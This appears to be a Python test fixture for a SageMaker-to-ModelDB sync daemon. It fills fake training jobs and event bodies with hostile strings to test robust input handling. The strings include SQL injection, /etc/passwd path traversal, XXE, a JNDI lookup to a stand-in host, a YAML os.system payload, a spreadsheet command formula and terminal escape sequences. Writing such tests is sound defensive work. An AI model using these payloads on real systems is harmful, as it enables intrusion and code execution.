"""Texts, jobs and events with hostile content."""

from __future__ import annotations

import dataclasses
import json
from typing import TYPE_CHECKING, Any

from tests.support.daemon_process import ACCOUNT, REGION, Job

if TYPE_CHECKING:
    from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    "controls": "a\x00b\x01\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x9fz",
    "escapes": "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x1b]52;c;aWQ=\x07\x9b31m\x90q",
    "line-ends": "one\r\ntwo\u2028three\u2029four\x85"
    '{"level":"info","event":"forged"}\n{"event":"forged"}',
    "markup": "<script>alert(1)</script><!--<![CDATA[x]]>&lt;&#27;<?xml version='1.0'?><!DOCTYPE "
    "a SYSTEM 'file:///etc/passwd'>",
    "megabyte": "x" * 1_000_000,
    "megabyte-wide": "\U0001f600" * 250_000,
    "path": "../../../../etc/passwd",
    "absolute-path": "/etc//passwd/./../shadow",
    "windows-path": "C:\\con\\..\\nul",
    "url": "https://evil.example:1/x?y=1#user:pw@z",
    "file-url": "file:///etc/passwd",
    "percent": "%s %d %n %(x)s %x%x%x %00 %0d%0aSet-Cookie: a=b",
    "braces": "{0} {} {x.__class__} {0.__class__.__mro__} {{7*7}} ${jndi:ldap://evil} #{7*7} "
    "$(id) `id` $PATH",
    "sql": "'; DROP TABLE jobs; --\" OR 1=1; DELETE FROM claims",
    "json": '"}, {"event": "job outcome", "x": "\\u0000',
    "yaml": "!!python/object/apply:os.system ['id']",
    "spreadsheet": "=cmd|' /C calc'!A0",
    "bidi": "\u202egpj.exe\u2066\u200b\u200d\ufeff\u00ad\U000e0041",
    "stacked": "Z" + "\u0301" * 500,
    "surrogates": "a\ud800b\udfffc",
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "digits": "9" * 400,
    "huge-number": "1e999999",
    "deep": "[" * 3000 + "]" * 3000,
    "deep-object": '{"a":' * 3000 + "1" + "}" * 3000,
    "null": "null",
    "prototype": "__proto__",
    "spaces": "\u00a0\u3000 \t\u2003x",
    "redacted": "[redacted]",
}
"""By the part of a job's name."""


TOO_LONG = "megabyte-wide"
"""In three places of a job, it is more than ModelDB V2 takes in one call."""

_PLACES = ("PROJECT_NAME", "PROJECT_USER", "PROJECT_DESC", "MODEL_NAME", "MODEL_TYPE")


@dataclasses.dataclass(frozen=True)
class HostileJob(Job):
    """A job with the same text in each place that can hold one."""

    text: str = ""
    everywhere: bool = True

    @classmethod
    def make(cls, kind: str) -> HostileJob:
        text = TEXTS[kind]
        # a project of its own: what ModelDB says of one text must not be what it says of another's
        tags = (
            {"MODEL_DB_SYNC": text}
            | {f"MODEL_DB_{key}": text for key in _PLACES}
            | {"MODEL_DB_PROJECT_NAME": f"{kind} {text}", text: text}
        )
        return cls(f"hostile-{kind}", tags=tags, text=text, status="Failed")

    @classmethod
    def once(cls, kind: str) -> HostileJob:
        """A job with the text in one hyperparameter, one metric name and one tag."""
        tags = (
            {"MODEL_DB_SYNC": "true"}
            | {f"MODEL_DB_{key}": "x" for key in _PLACES}
            | {"MODEL_DB_PROJECT_DESC": TEXTS[kind]}
        )
        return cls(
            f"hostile-once-{kind}", tags=tags, text=TEXTS[kind], status="Failed", everywhere=False
        )

    @property
    def description(self) -> dict[str, Any]:
        text = self.text
        if not self.everywhere:
            metrics = [{"MetricName": text, "Value": 0.5, "Timestamp": 1763628860}]
            return super().description | {
                "HyperParameters": {"plain": text},
                "FinalMetricDataList": metrics,
            }
        if len(text) > 100_000:
            parameters = {text: text, "plain": text, "quoted": json.dumps(text)}
            return super().description | {
                "HyperParameters": parameters,
                "FailureReason": text,
                "RoleArn": text,
            }
        channel = {
            "ChannelName": text,
            "ContentType": text,
            "DataSource": {"S3DataSource": {"S3DataType": text, "S3Uri": text}},
        }
        return super().description | {
            "HyperParameters": {
                text: text,
                "plain": text,
                "quoted": json.dumps(text),
                "sagemaker_program": json.dumps(text),
            },
            "Environment": {text: text},
            "FinalMetricDataList": [
                {"MetricName": text, "Value": 0.5, "Timestamp": 1763628860},
                {"MetricName": f"train:{text}", "Value": 1e308, "Timestamp": 1763628860},
            ],
            "InputDataConfig": [channel, channel | {"ChannelName": f"train{text}"}],
            "FailureReason": text,
            "SecondaryStatus": text,
            "RoleArn": text,
            "AlgorithmSpecification": {
                "TrainingImage": text,
                "AlgorithmName": text,
                "TrainingInputMode": text,
            },
            "ModelArtifacts": {"S3ModelArtifacts": text},
            "OutputDataConfig": {"S3OutputPath": text, "KmsKeyId": text, "CompressionType": text},
            "ResourceConfig": {"InstanceType": text, "InstanceCount": 10**18, "VolumeSizeInGB": -1},
            "ExperimentConfig": {"ExperimentName": text, "TrialName": text},
            "CheckpointConfig": {"S3Uri": text, "LocalPath": text},
            "TuningJobArn": text,
        }

    @property
    def event(self) -> str:
        event = super().event
        if len(event) < 100_000:
            return event
        envelope = json.loads(event)
        envelope["detail"]["Tags"] = None  # ListTags has them
        return json.dumps(envelope)


def _event(detail: Mapping[str, Any], **members: Any) -> str:
    envelope = json.loads(Job("x").event)
    envelope["detail"] = {**envelope["detail"], **detail}
    return json.dumps(envelope | members)


def _named(name: str) -> str:
    return _event(
        {
            "TrainingJobName": name,
            "TrainingJobArn": f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/{name}",
        }
    )


_BODIES: Mapping[str, str] = {
    **{f"name {kind}": _named(text[:900_000]) for kind, text in TEXTS.items() if len(text) < 10**6},
    **{
        f"other event {kind}": json.dumps({"detail-type": text, "source": text, "detail": {}})
        for kind, text in TEXTS.items()
        if len(text) < 100_000
    },
    **{
        f"member {kind}": json.dumps({text: text})
        for kind, text in TEXTS.items()
        if len(text) < 100_000
    },
    **{
        f"body {kind}": text
        for kind, text in TEXTS.items()
        if not set(text) & set(map(chr, range(32))) and "\ud800" not in text
    },
    "account in other digits": _event(
        {"TrainingJobArn": None}, account="\uff11" * 12, resources=[]
    ),
    "region": _event({}, region="eu-west-1\x1b[31m"),
    "status": _event({"TrainingJobStatus": "Completed\u202e"}),
    "status twice as long": _event({"TrainingJobStatus": "C" * 100_000}),
    "arn": _event(
        {"TrainingJobArn": "arn:aws:sagemaker:eu-west-1:123456789012:training-job/x' OR '1'='1"}
    ),
    "arn of the path": _event(
        {"TrainingJobArn": "arn:aws:sagemaker:../..:123456789012:training-job/x"}
    ),
    "deep tags": json.dumps({"detail-type": 1}).replace("1", "[" * 900 + "]" * 900),
}
NO_JOBS = {kind: body for kind, body in _BODIES.items() if len(json.dumps(body)) < 1_000_000}
"""Bodies that name no job of ours, small enough for a queue and its client."""
